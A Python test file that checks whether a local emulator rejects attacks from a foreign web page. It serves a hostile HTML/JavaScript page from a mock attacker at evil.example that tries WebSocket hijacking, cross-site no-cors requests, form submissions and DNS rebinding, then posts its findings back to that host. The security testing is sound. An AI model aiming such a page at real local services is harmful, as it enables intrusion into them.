"""A real browser that shows a foreign page, and what that page can do to the emulator.

The name `evil.example` leads to loopback inside this browser only (`--host-resolver-rules`), as a
DNS server does that rebinds a name of its own.
"""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import signal
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack, asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from attrs import define, field

from tests.emulator.realtime_raw import token
from tests.lacking import untested
from vcloud.emulator import Emulator

EVIL = "evil.example"
RESOLVER = f"MAP {EVIL} 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost"
#: A profile of its own, and no connection to the network.
OPTIONS = (
    "--headless=new",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-dev-shm-usage",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-extensions",
    "--disable-sync",
    "--no-first-run",
    "--no-proxy-server",
    f"--host-resolver-rules={RESOLVER}",
)
PAGE = """<!doctype html><title>evil</title><body><script>
const home = "%(home)s";

function socket(url, hello) {
  return new Promise((resolve) => {
    const opened = new WebSocket(url);
    opened.onopen = () => { if (hello) opened.send(JSON.stringify(hello)); };
    opened.onmessage = () => { resolve("heard"); opened.close(); };
    opened.onclose = () => resolve("refused");
  });
}

async function request(url, options) {
  try {
    const answer = await fetch(url, options);
    return answer.type === "opaque" ? "sent" : [answer.status, await answer.text()];
  } catch (error) { return "failed"; }
}

function element(name, url) {
  return new Promise((resolve) => {
    const made = document.createElement(name);
    made.onload = made.onerror = () => resolve("sent");
    made.src = url;
    document.body.append(made);
  });
}

function form(url) {
  return new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.name = url;  // one of its own
    const sent = document.createElement("form");
    Object.assign(sent, { action: url, method: "POST", enctype: "text/plain", target: url });
    document.body.append(frame, sent);
    frame.onload = () => resolve("sent");
    sent.submit();
  });
}

const doing = { socket, request, element, form };

(async () => {
  const told = await (await fetch(home + "/orders")).json();
  const found = {};
  for (const [name, [what, ...details]] of Object.entries(told)) {
    found[name] = await doing[what](...details);
  }
  await fetch(home + "/report", { method: "POST", body: JSON.stringify(found) });
})();
</script></body>"""

Orders = dict[str, list[Any]]


@define
class Attacker:
    """A foreign web server: it serves the page, says what to try, and receives the results."""

    port: int = 0
    asked: asyncio.Event = field(factory=asyncio.Event)
    """Set when the page is shown and asks for its task."""
    orders: asyncio.Future[Orders] = field(init=False)
    report: asyncio.Future[dict[str, Any]] = field(init=False)

    def __attrs_post_init__(self) -> None:
        loop = asyncio.get_running_loop()
        self.orders, self.report = loop.create_future(), loop.create_future()

    async def answer(self, request: web.BaseRequest) -> web.StreamResponse:
        headers = {"Access-Control-Allow-Origin": "*"}
        if request.path == "/orders":
            self.asked.set()
            return web.json_response(await asyncio.shield(self.orders), headers=headers)
        if request.path == "/report":
            self.report.set_result(json.loads(await request.read()))
            return web.Response(headers=headers)
        page = PAGE % {"home": f"http://{EVIL}:{self.port}"}
        return web.Response(text=page, content_type="text/html")


@asynccontextmanager
async def listening(attacker: Attacker) -> AsyncIterator[int]:
    """Serve the attacker's pages on a port."""
    server = web.Server(attacker.answer)
    listener = await asyncio.get_running_loop().create_server(server, "127.0.0.1", 0)
    try:
        port: int = listener.sockets[0].getsockname()[1]
        yield port
    finally:
        listener.close()
        await server.shutdown(0.1)


@asynccontextmanager
async def browsing(profile: Path, url: str) -> AsyncIterator[None]:
    """Show a page, until the block is left."""
    chromium = shutil.which("chromium")
    if chromium is None:
        reason = (
            "THE EMULATOR IS NOT TESTED WITH A BROWSER: there is no chromium "
            "(Debian: apt-get install chromium)"
        )
        untested(reason)
    process = await asyncio.create_subprocess_exec(
        chromium,
        *OPTIONS,
        f"--user-data-dir={profile}",
        url,
        stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.DEVNULL,
        # A browser has many processes, which end together.
        start_new_session=True,
    )
    try:
        yield
    finally:
        os.killpg(process.pid, signal.SIGKILL)
        await process.wait()


def attempts(emulator: Emulator, host: str) -> Orders:
    """What a page can do to a server without a preflight request."""
    port = emulator.url.rpartition(":")[2]
    http, ws = f"http://{host}:{port}", f"ws://{host}:{port}"
    session = emulator.streamspace.add_session().id
    register = {"type": "register", "agent_id": "evil", "platform": "docker"}
    simple = {"method": "POST", "mode": "no-cors", "body": '{"seconds": 3600}'}
    return {
        "agent": ["socket", f"{ws}/agent/ws?agent_id=evil&platform=docker", register],
        "viewer": ["socket", f"{ws}/vnc-viewer/{session}?token={token(emulator)}"],
        "get": ["request", f"{http}/v1/desktop/get", {"mode": "no-cors"}],
        "post": ["request", f"{http}/v1/desktop/post", simple],
        "advance": ["request", f"{http}/_emulator/clock/advance", simple],
        "image": ["element", "img", f"{http}/v1/desktop/image"],
        "script": ["element", "script", f"{http}/v1/desktop/script"],
        "frame": ["element", "iframe", f"{http}/v1/desktop/frame"],
        "form": ["form", f"{http}/v1/desktop/form"],
    }


async def test_page_of_another_site_is_refused(tmp_path: Path) -> None:
    attacker = Attacker()
    async with Emulator() as emulator, listening(attacker) as attacker.port:
        orders: Orders = {}
        for host in ("127.0.0.1", "localhost", EVIL):
            for name, order in attempts(emulator, host).items():
                orders[f"{name} at {host}"] = order
        attacker.orders.set_result(orders)
        before = emulator.clock.now()
        async with browsing(tmp_path, f"http://{EVIL}:{attacker.port}/"):
            found = await attacker.report
        assert found.keys() == orders.keys()
        for host in ("127.0.0.1", "localhost", EVIL):
            assert found[f"agent at {host}"] == found[f"viewer at {host}"] == "refused"
        assert [call.path for call in emulator.calls] == []
        assert "evil" not in emulator.streamspace.agents
        assert emulator.clock.now() - before < 3600


@pytest.mark.parametrize("host", [EVIL, "127.0.0.1"])
async def test_page_of_an_allowed_host_is_answered(tmp_path: Path, host: str) -> None:
    """The control: the search of the test above does find texts."""
    attacker = Attacker()
    async with Emulator(allow_hosts=[EVIL]) as emulator, listening(attacker) as attacker.port:
        attacker.orders.set_result(attempts(emulator, host))
        async with browsing(tmp_path, f"http://{EVIL}:{attacker.port}/"):
            found = await attacker.report
        assert (found["agent"], found["viewer"]) == ("heard", "heard")
        paths = {call.path.rpartition("/")[2] for call in emulator.calls}
        assert {"post", "form"} <= paths
        # For these, the browser sends only that they come from another site.
        assert (paths & {"get", "image", "script", "frame"} == set()) is (host != EVIL)
        assert "evil" in emulator.streamspace.agents


@pytest.mark.parametrize("allowed", [False, True], ids=["rebound", "control"])
async def test_page_after_dns_rebinding_is_refused(tmp_path: Path, *, allowed: bool) -> None:
    """It has the emulator's origin: same name, same port, and no preflight request."""
    attacker = Attacker()
    typed = {"Content-Type": "application/json"}
    advance = {"method": "POST", "headers": typed, "body": '{"seconds": 3600}'}
    async with AsyncExitStack() as stack:
        attacker.port = await stack.enter_async_context(listening(attacker))
        async with listening(attacker) as port:
            await stack.enter_async_context(browsing(tmp_path, f"http://{EVIL}:{port}/"))
            await attacker.asked.wait()
        # The page is loaded; from now on, its name and port are the emulator's.
        emulator = await stack.enter_async_context(
            Emulator(port=port, allow_hosts=[EVIL] if allowed else [])
        )
        before = emulator.clock.now()
        attacker.orders.set_result(
            {
                "read": ["request", "/_emulator/calls"],
                "advance": ["request", "/_emulator/clock/advance", advance],
                "stop": ["request", "/v1/desktop/x/stop", {"method": "POST"}],
            }
        )
        found = await attacker.report
        statuses = {name: outcome[0] for name, outcome in found.items()}
        passed = emulator.clock.now() - before
        if allowed:
            assert statuses == {"read": 200, "advance": 200, "stop": 404}
            assert passed >= 3600
        else:
            assert statuses == {"read": 421, "advance": 421, "stop": 421}
            assert passed < 3600
            assert not emulator.calls
